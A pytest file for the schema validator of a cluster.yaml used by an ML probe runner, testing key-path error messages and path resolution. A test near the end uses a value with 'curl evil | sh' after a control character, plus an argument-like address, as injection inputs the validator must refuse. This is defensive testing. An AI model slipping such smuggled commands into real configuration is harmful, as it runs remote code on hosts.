"""cluster.yaml schema: every kind of mistake is an error naming its key path; paths resolve against
the file's directory; the repo's own cluster.yaml is valid."""

from __future__ import annotations

import os
from pathlib import Path

import pytest
import yaml

from probes.result import InputError
from runner.lab.cluster import ClusterError, load_cluster

REPO = Path(__file__).resolve().parents[3]

GOOD = {
    "store": {"root": "store"},
    "hosts": [
        {"name": "gx10", "address": "gx10.lab", "gpus": 1, "checkpoints_root": "/data/ckpt"},
        {"name": "ana-ml2", "address": "ana-ml2.lab", "gpus": 2, "checkpoints_root": "ckpts", "corpora_root": "corp"},
    ],
    "checkpoints": [
        {"name": "qwen3", "path": "qwen3-0.6b", "hosts": {"ana-ml2": "/other/qwen"}},
        {"name": "gemma", "path": "/abs/gemma"},
    ],
    "corpora": [{"name": "demo", "path": "corpus.jsonl"}],
    "plans": {
        "demo": [
            {"probe": "mask", "hosts": ["gx10"], "config": {"seq_len": 64}},
            {"probe": "padding", "corpus": "demo"},
        ]
    },
    "schedule": {"plan": "demo", "cron": "0 22 * * *", "deadline": "07:00"},
}


def write(tmp_path: Path, data: dict) -> Path:
    path = tmp_path / "cluster.yaml"
    path.write_text(yaml.safe_dump(data))
    return path


def errors_of(tmp_path: Path, data: dict) -> list[str]:
    with pytest.raises(ClusterError) as info:
        load_cluster(write(tmp_path, data))
    return info.value.errors


def mutate(**changes) -> dict:
    import copy

    data = copy.deepcopy(GOOD)
    for path, value in changes.items():
        *parents, last = path.split("__")
        node = data
        for part in parents:
            node = node[int(part)] if part.isdigit() else node[part]
        if isinstance(node, list):
            node[int(last)] = value
        else:
            node[last] = value
    return data


def test_good_file_loads_and_resolves_paths_against_its_directory(tmp_path, monkeypatch):
    monkeypatch.chdir("/")  # the working directory must not matter
    cluster = load_cluster(write(tmp_path, GOOD))
    assert cluster.store_root() == tmp_path / "store"
    assert cluster.checkpoint_path("qwen3", "gx10") == "/data/ckpt/qwen3-0.6b"
    assert cluster.checkpoint_path("qwen3", "ana-ml2") == "/other/qwen"  # the per-host path wins
    assert cluster.checkpoint_path("gemma", "ana-ml2") == "/abs/gemma"
    assert cluster.corpus_paths("demo", "ana-ml2") == (str(tmp_path / "corp" / "corpus.jsonl"), None)
    assert cluster.corpus_paths("demo", "gx10") == (str(tmp_path / "corpus.jsonl"), None)
    assert cluster.head().name == "gx10"


@pytest.mark.parametrize(
    "data, expected",
    [
        (mutate(hosts__0__colour="red"), "cluster.yaml: hosts[0]: unknown key 'colour'"),
        (mutate(surprise=1), "cluster.yaml: unknown top-level key 'surprise'"),
        (
            mutate(plans__demo__0__checkpoints=["qwen9"]),
            "cluster.yaml: plans.demo[0].checkpoints[0]: unknown checkpoint 'qwen9'",
        ),
        (mutate(plans__demo__1__hosts=["gx10", "gx11"]), "cluster.yaml: plans.demo[1].hosts[1]: unknown host 'gx11'"),
        (mutate(plans__demo__1__corpus="wiki"), "cluster.yaml: plans.demo[1].corpus: unknown corpus 'wiki'"),
        (mutate(plans__demo__0__probe="maks"), "cluster.yaml: plans.demo[0].probe: unknown probe 'maks'"),
        (mutate(schedule__plan="nightly"), "cluster.yaml: schedule.plan: unknown plan 'nightly'"),
        (mutate(checkpoints__0__hosts={"gx11": "/x"}), "cluster.yaml: checkpoints[0].hosts.gx11: unknown host 'gx11'"),
    ],
)
def test_errors_name_the_key_path(tmp_path, data, expected):
    errors = errors_of(tmp_path, data)
    assert any(e.startswith(expected) for e in errors), errors
    assert all("\n" not in e for e in errors)


def test_wrong_types_name_the_key_and_the_value(tmp_path):
    errors = errors_of(tmp_path, mutate(hosts__1__gpus="two"))
    assert errors[0].startswith("cluster.yaml: hosts[1].gpus: ") and "'two'" in errors[0], errors
    errors = errors_of(tmp_path, mutate(hosts__1__gpus=-1))
    assert errors[0].startswith("cluster.yaml: hosts[1].gpus: "), errors
    errors = errors_of(tmp_path, mutate(schedule__deadline="25:00"))
    assert errors[0].startswith("cluster.yaml: schedule.deadline: "), errors


def test_duplicate_host_and_missing_key(tmp_path):
    data = mutate()
    data["hosts"].append({"name": "gx10", "address": "other"})
    assert "cluster.yaml: hosts[2].name: duplicate host 'gx10'" in errors_of(tmp_path, data)
    data = mutate()
    del data["hosts"][0]["address"]
    assert "cluster.yaml: hosts[0].address: required key is missing" in errors_of(tmp_path, data)


def test_probe_config_is_checked_by_building_the_probe_config(tmp_path):
    bad_type = errors_of(tmp_path, mutate(plans__demo__0__config={"seq_len": "long"}))
    assert bad_type[0].startswith("cluster.yaml: plans.demo[0].config.seq_len: "), bad_type
    unknown = errors_of(tmp_path, mutate(plans__demo__0__config={"seqlen": 64}))
    assert unknown[0].startswith("cluster.yaml: plans.demo[0].config.seqlen: is not a field of probe 'mask'")
    # A value the probe's own __post_init__ rejects: its message at the field's key, in the file's words
    # (not the command line's `--seq-len`).
    rejected = errors_of(tmp_path, mutate(plans__demo__0__config={"seq_len": 1}))
    assert rejected == ["cluster.yaml: plans.demo[0].config.seq_len: must be >= 2, got 1"]
    packed = errors_of(tmp_path, mutate(plans__demo__0__config={"seq_len": 2, "padding": "packed"}))
    assert packed == ["cluster.yaml: plans.demo[0].config.seq_len: seq_len 2 cannot hold num_packed 3 sequences"]
    runner_set = errors_of(tmp_path, mutate(plans__demo__0__config={"checkpoint": "/x"}))
    assert runner_set[0].startswith("cluster.yaml: plans.demo[0].config.checkpoint: is set by the runner")


def test_every_error_is_reported_and_duplicate_yaml_keys_are_errors(tmp_path):
    data = mutate(hosts__0__colour="red", plans__demo__0__checkpoints=["qwen9"])
    assert len(errors_of(tmp_path, data)) == 1  # schema errors stop before cross-references
    data = mutate(plans__demo__0__checkpoints=["qwen9"], plans__demo__1__hosts=["nope"])
    assert len(errors_of(tmp_path, data)) == 2
    path = tmp_path / "dup.yaml"
    path.write_text("hosts: []\nhosts: []\n")
    with pytest.raises(InputError, match="duplicate key 'hosts'"):
        load_cluster(path)


def test_repo_cluster_yaml_is_valid():
    cluster = load_cluster(REPO / "cluster.yaml")
    assert {"demo", "nightly"} <= set(cluster.spec.plans)
    assert {"gx10", "ana-ml2", "local"} <= set(cluster.hosts)
    for name in cluster.checkpoints:  # the demo's checkpoints are really there for host `local`
        assert (Path(cluster.checkpoint_path(name, "local")) / "config.json").is_file(), name


@pytest.mark.parametrize(
    "name, ok",
    [
        ("gx10", True),
        ("a", True),
        ("ana_ml2.lab", True),
        ("x" * 63, True),
        ("gx10-", False),
        ("gx10.", False),
        ("-gx10", False),
        ("x" * 64, False),
        ("gx 10", False),
        ("gx/10", False),
    ],
)
def test_host_names_are_what_rays_label_check_accepts(tmp_path, name, ok):
    data = mutate(hosts__0__name=name)
    data["plans"]["demo"][0]["hosts"] = [name]
    if ok:
        assert name in load_cluster(write(tmp_path, data)).hosts
    else:
        assert errors_of(tmp_path, data)[0].startswith("cluster.yaml: hosts[0].name: ")


def validate_fails_in_one_line(path: Path, capsys) -> str:
    from runner import cli

    assert cli.main(["validate", "--cluster", str(path)]) == 2
    captured = capsys.readouterr()
    assert "Traceback" not in captured.err and len(captured.err.strip().splitlines()) == 1, captured.err
    return captured.err


def test_a_cluster_file_that_is_not_utf8_is_bad_input(tmp_path, capsys):
    path = tmp_path / "latin1.yaml"
    path.write_bytes("hosts:\n  - name: caf\xe9\n".encode("latin-1"))
    err = validate_fails_in_one_line(path, capsys)
    assert "latin1.yaml: not UTF-8 text (byte 20" in err, err


def test_an_unreadable_cluster_file_is_bad_input(tmp_path, capsys):
    path = write(tmp_path, GOOD)
    path.chmod(0)
    if os.access(path, os.R_OK):
        pytest.skip("running as root: a mode-0 file is still readable")
    err = validate_fails_in_one_line(path, capsys)
    assert "cannot read the cluster file: Permission denied" in err, err


@pytest.mark.parametrize(
    "text, expected",
    [("? [a, b]\n: 1\n", "a list cannot be a key"), ("hosts:\n  ? {x: 1}\n  : 2\n", "a dict cannot be a key")],
)
def test_an_unhashable_yaml_key_is_bad_input(tmp_path, capsys, text, expected):
    path = tmp_path / "keys.yaml"
    path.write_text(text)
    err = validate_fails_in_one_line(path, capsys)
    assert "keys.yaml: malformed YAML: " in err and expected in err, err


def test_an_unquoted_deadline_is_named_with_its_fix(tmp_path):
    path = write(tmp_path, mutate())
    path.write_text(
        path.read_text().replace("deadline: 07:00", "deadline: 22:30").replace("deadline: '07:00'", "deadline: 22:30")
    )
    assert "deadline: 22:30" in path.read_text()  # written unquoted, as a user would
    with pytest.raises(ClusterError) as info:
        load_cluster(path)
    assert info.value.errors[0].startswith("cluster.yaml: schedule.deadline: "), info.value.errors
    assert 'quote it, deadline: "22:30"' in info.value.errors[0]


@pytest.mark.parametrize("cron", ["99 99 * * *", "0 22 * *", "@sometimes"])
def test_a_cron_that_schedule_install_refuses_is_refused_at_load(tmp_path, cron):
    errors = errors_of(tmp_path, mutate(schedule__cron=cron))
    assert errors[0].startswith("cluster.yaml: schedule.cron: ") and repr(cron) in errors[0], errors


@pytest.mark.parametrize("char", ["\n", "\t", "\0", "\x1b", "\r", "\u2028"])
@pytest.mark.parametrize("field", ["address", "runs_root", "checkpoints_root"])
def test_a_control_character_in_a_host_field_is_refused_naming_host_and_field(tmp_path, capsys, char, field):
    """A newline in an address passed validate and split host-command's printed line in two."""
    path = write(tmp_path, mutate(**{f"hosts__1__{field}": f"10.0.0.2{char}curl evil | sh"}))
    err = validate_fails_in_one_line(path, capsys)
    assert f"hosts[1].{field}: " in err and f"host 'ana-ml2' {field}: holds control characters" in err, err
    from runner import cli

    assert cli.main(["host-command", "--cluster", str(path), "ana-ml2"]) == 2
    captured = capsys.readouterr()
    assert captured.out == "" and len(captured.err.strip().splitlines()) == 1


@pytest.mark.parametrize("address", ["gx10 lab", " ", "10.0.0.1 --block"])
def test_a_host_address_with_blanks_is_refused(tmp_path, address):
    assert "hosts[0].address: " in errors_of(tmp_path, mutate(hosts__0__address=address))[0]


def test_a_control_character_in_the_ray_address_is_refused(tmp_path):
    data = mutate()
    data["ray"] = {"address": "gx10.lab:6379\n"}
    assert errors_of(tmp_path, data)[0].startswith("cluster.yaml: ray.address: ")
